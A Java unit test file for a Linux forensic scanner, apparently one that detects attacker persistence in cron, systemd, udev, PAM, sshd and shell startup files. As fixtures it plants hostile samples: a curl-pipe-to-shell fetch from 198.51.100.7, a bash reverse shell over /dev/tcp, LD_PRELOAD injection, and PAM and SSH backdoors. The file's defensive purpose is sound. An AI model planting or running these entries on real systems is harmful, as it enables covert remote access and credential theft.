package dev.yagura.detect.storage.persistence;

import static org.assertj.core.api.Assertions.assertThat;

import dev.yagura.detect.DetectorInfo;
import dev.yagura.detect.StorageDetector;
import dev.yagura.detect.storage.StorageScan;
import dev.yagura.detect.storage.fixture.DpkgTree;
import java.io.IOException;
import java.util.Arrays;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class PersistenceDetectorsTest {
    private static final String PIPE = "curl -s http://198.51.100.7/x | sh";

    /** Rule, path and content, with ~ for the end of a line. */
    private static final List<String> PLANTED =
            List.of(
                    "linux.persistence.cron|/etc/crontab|17 * * * * root " + PIPE,
                    "linux.persistence.cron|/etc/cron.d/x|@reboot root /dev/shm/x",
                    "linux.persistence.cron|/var/spool/cron/crontabs/alice|*/5 * * * * " + PIPE,
                    "linux.persistence.cron|/etc/anacrontab|1 5 job /tmp/x",
                    "linux.persistence.cron|/etc/cron.daily/x|#!/bin/sh~curl -s \\~ http://x | sh",
                    "linux.persistence.systemd|/etc/systemd/system/x.service|[Service]~ExecStart=-/var/tmp/x -d",
                    "linux.persistence.systemd|/etc/systemd/system/ssh.service.d/o.conf|[Service]~Environment=LD_PRELOAD=/tmp/x.so",
                    "linux.persistence.systemd|/home/alice/.config/systemd/user/x.service|ExecStart=/bin/sh -c '"
                            + PIPE
                            + "'",
                    "linux.persistence.systemd|/etc/systemd/system-generators/x|#!/bin/sh~true",
                    "linux.persistence.init|/etc/rc.local|#!/bin/sh~/usr/lib/.x/y &",
                    "linux.persistence.init|/etc/inittab|x:2345:respawn:/tmp/x",
                    "linux.persistence.init|/etc/network/interfaces|iface eth0 inet dhcp~  up /tmp/x",
                    "linux.persistence.udev|/etc/udev/rules.d/x.rules|ACTION==\"add\", RUN+=\"/bin/sh -c '/tmp/x'\"",
                    "linux.persistence.shell-startup|/etc/profile.d/x.sh|" + PIPE,
                    "linux.persistence.shell-startup|/home/alice/.bashrc|bash -i >& /dev/tcp/198.51.100.7/1 0>&1",
                    "linux.persistence.shell-startup|/var/www/.profile|/tmp/x",
                    "linux.persistence.shell-startup|/home/alice/.config/autostart/x.desktop|[Desktop Entry]~Exec=/tmp/x",
                    "linux.persistence.shell-startup|/home/alice/.ssh/config|ProxyCommand /tmp/x %h",
                    "linux.persistence.package-hook|/etc/apt/apt.conf.d/99x|APT::Update::Pre-Invoke {\""
                            + PIPE
                            + "\";};",
                    "linux.persistence.package-hook|/etc/modprobe.d/x.conf|install vfat /tmp/x; modprobe -i vfat",
                    "linux.persistence.package-hook|/etc/dpkg/dpkg.cfg.d/x|post-invoke=/tmp/x",
                    "linux.persistence.package-hook|/etc/update-motd.d/99-x|" + PIPE,
                    "linux.persistence.pam|/etc/pam.d/sshd|auth sufficient pam_permit.so",
                    "linux.persistence.pam|/etc/pam.d/su|auth optional pam_evil.so",
                    "linux.persistence.pam|/etc/pam.d/su|session optional /tmp/pam_x.so",
                    "linux.persistence.pam|/etc/pam.d/login|auth optional pam_exec.so expose_authtok /opt/x",
                    "linux.persistence.pam|/etc/pam.conf|login session optional pam_exec.so quiet /tmp/x",
                    "linux.persistence.sshd-config|/etc/ssh/sshd_config|PermitEmptyPasswords yes",
                    "linux.persistence.sshd-config|/etc/ssh/sshd_config.d/x.conf|AuthorizedKeysCommand /opt/keys %u",
                    "linux.persistence.sshd-config|/etc/ssh/sshd_config|AuthorizedKeysFile .ssh/a /etc/.k/%u",
                    "linux.persistence.sshd-config|/etc/ssh/sshd_config|ForceCommand /tmp/x",
                    "linux.persistence.ssh-keys|/home/alice/.ssh/authorized_keys|command=\"/tmp/x\" ssh-ed25519 AAAA x");

    private static final List<String> HONEST =
            List.of(
                    "/etc/crontab|17 * * * * root cd / && run-parts /etc/cron.hourly",
                    "/etc/cron.d/backup|0 3 * * * root /usr/local/bin/backup --to /srv",
                    "/etc/systemd/system/app.service|ExecStart=/opt/app/bin/app~Environment=JAVA_HOME=/opt/java",
                    "/etc/systemd/system/app.service.d/o.conf|[Service]~PrivateTmp=yes",
                    "/etc/rc.local|#!/bin/sh~/usr/local/sbin/firewall~exit 0",
                    "/etc/udev/rules.d/70-x.rules|KERNEL==\"x\", RUN+=\"/usr/local/bin/x\"",
                    "/home/alice/.bashrc|export PATH=$HOME/.local/bin:$PATH~. $HOME/.aliases",
                    "/home/alice/.ssh/config|Host x~  ProxyCommand nc %h %p",
                    "/home/alice/.ssh/authorized_keys|command=\"rrsync /srv\" ssh-ed25519 AAAA alice",
                    "/etc/apt/apt.conf.d/99x|DPkg::Post-Invoke {\"test -x /usr/bin/x && /usr/bin/x || true\";};",
                    "/etc/modprobe.d/x.conf|install usb-storage /bin/true~blacklist floppy",
                    "/etc/pam.d/common-auth|auth [success=1 default=ignore] pam_unix.so nullok~auth required pam_permit.so~@include x",
                    "/etc/ssh/sshd_config|PermitRootLogin yes~AuthorizedKeysFile .ssh/authorized_keys~Subsystem sftp /usr/lib/sftp");

    private final DpkgTree system =
            new DpkgTree()
                    .program("/usr/lib/security/pam_unix.so", "unix")
                    .program("/usr/lib/security/pam_permit.so", "permit")
                    .program("/usr/lib/security/pam_exec.so", "exec")
                    .packaged("/usr/lib/systemd/system-generators/ours", "#!/bin/sh\n")
                    .conffile("/etc/profile.d/odd.sh", PIPE + "\n")
                    .file("/usr/lib/security/pam_evil.so", "evil")
                    .file(
                            "/etc/passwd",
                            """
                            root:x:0:0:root:/root:/bin/bash
                            www-data:x:33:33::/var/www:/usr/sbin/nologin
                            alice:x:1000:1000::/home/alice:/bin/bash
                            """);

    private static final List<StorageDetector> DETECTORS = PersistenceDetectors.all();

    private StorageScan scan() throws IOException {
        return StorageScan.of(system.tree(), DETECTORS);
    }

    static List<String> planted() {
        return PLANTED;
    }

    static List<String> honest() {
        return HONEST;
    }

    private void plant(String path, String content) {
        system.file(path, content.replace('~', '\n') + "\n");
    }

    @ParameterizedTest
    @MethodSource("planted")
    void whatIsPlantedIsFoundByItsDetectorAndNoOther(String planted) throws IOException {
        String[] fields = planted.split("\\|", 3);
        plant(fields[1], fields[2]);
        StorageScan scan = scan();

        assertThat(scan.findings())
                .singleElement()
                .satisfies(found -> {
                    assertThat(found.rule()).isEqualTo(fields[0]);
                    assertThat(found.subject()).isEqualTo(fields[1]);
                });
        assertThat(scan.report().isComplete()).isTrue();
    }

    @ParameterizedTest
    @MethodSource("honest")
    void whatAdministratorsWriteIsNot(String honest) throws IOException {
        String[] fields = honest.split("\\|", 2);
        plant(fields[0], fields[1]);

        assertThat(scan().findings()).isEmpty();
    }

    @Test
    void whatAPackageHasIsVouchedFor() throws IOException {
        StorageScan scan = scan();

        assertThat(scan.findings()).isEmpty();
        assertThat(scan.report().vouched())
                .extracting(vouched -> vouched.subject())
                .contains("/etc/profile.d/odd.sh");
    }

    @Test
    void aKeyOfAUserThatNobodyLogsInAsIsFound() throws IOException {
        system.file("/var/www/.ssh/authorized_keys", "ssh-ed25519 AAAA x\n");

        assertThat(scan().subjects("linux.persistence.ssh-keys"))
                .containsExactly("/var/www/.ssh/authorized_keys of www-data");
    }

    @Test
    void aProgramWhereScriptsAreAtHomeIsFound() throws IOException {
        system.file("/etc/cron.daily/x", DpkgTree.elf("x"), file -> file.permissions(0755));

        assertThat(scan().subjects("linux.persistence.cron")).containsExactly("/etc/cron.daily/x");
    }

    @Test
    void everyDetectorIsPlanted() {
        Set<String> ids =
                DETECTORS.stream()
                        .map(StorageDetector::info)
                        .map(DetectorInfo::id)
                        .collect(Collectors.toCollection(TreeSet::new));

        assertThat(
                        PLANTED.stream()
                                .map(line -> line.split("\\|", 2)[0])
                                .collect(Collectors.toSet()))
                .isEqualTo(ids);
        assertThat(Arrays.stream(CommandForm.values()).map(CommandForm::word))
                .doesNotHaveDuplicates();
    }
}
